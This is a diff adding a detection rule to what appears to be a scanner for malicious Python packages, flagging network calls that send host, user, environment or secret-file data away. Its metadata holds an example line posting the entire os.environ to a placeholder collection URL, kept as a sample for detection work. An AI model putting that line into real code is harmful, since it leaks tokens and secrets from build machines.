@@ -1,0 +1,39 @@
+/** Rule: facts about the machine, its environment or its secrets are sent away. */
+import { matching, TEXT_INDICATORS } from '../catalog/indicators';
+import type { Taint } from '../dataflow/taint';
+import type { Rule } from './rule';
+import { isTestRole, sourcePhrase } from './values';
+
+export const dataExfiltration: Rule = {
+  metadata: {
+    id: 'data-exfiltration',
+    category: 'network',
+    title: 'Data leaves the machine',
+    why: 'Who builds a package owes its author no host name, no user name, no environment and no files. Environments of build machines hold tokens; sending them anywhere is the commonest aim of malicious packages.',
+    advice: 'Remove it. If it is not yours: do not build this package, and tell the index (PyPI: “Report project as malware”).',
+    example: { bad: 'import os, requests\nrequests.post("https://example.org/collect", json=dict(os.environ))', good: '# nothing: a build has nobody to report to' },
+    cwe: [200, 359],
+    sources: ['https://attack.mitre.org/techniques/T1041/', 'https://docs.pypi.org/project-management/reporting/'],
+  },
+  fixable: false,
+  check(context) {
+    if (isTestRole(context.program.role)) return;
+    for (const site of context.sites('network')) {
+      const taints = site.calls.flatMap((call) => [...call.args].filter(([name]) => name !== 'self').flatMap(([, { value }]) => value.taints)).filter(isPrivate);
+      const [taint] = taints.sort((a, b) => (a.key < b.key ? -1 : 1));
+      if (!taint) continue;
+      const what = [...new Set(taints.map((one) => (one.kind === 'environment' ? 'the whole environment' : sourcePhrase(one))))].slice(0, 3).join(', ');
+      context.report({ point: site.point, severity: 'error', confidence: 'high', persona: 'regular', message: `\`${site.path.replace(/\(\)/g, '')}\` sends away ${what}`, taint });
+    }
+  },
+};
+
+/** One variable may be a mirror's address; all of them are not. */
+function isPrivate(taint: Taint): boolean {
+  switch (taint.kind) {
+    case 'identity': case 'process-output': case 'user-input': return true;
+    case 'environment': return taint.detail === 'os.environ';
+    case 'file': return matching(TEXT_INDICATORS, taint.detail).some(({ kind }) => kind === 'secret-path');
+    default: return false;
+  }
+}
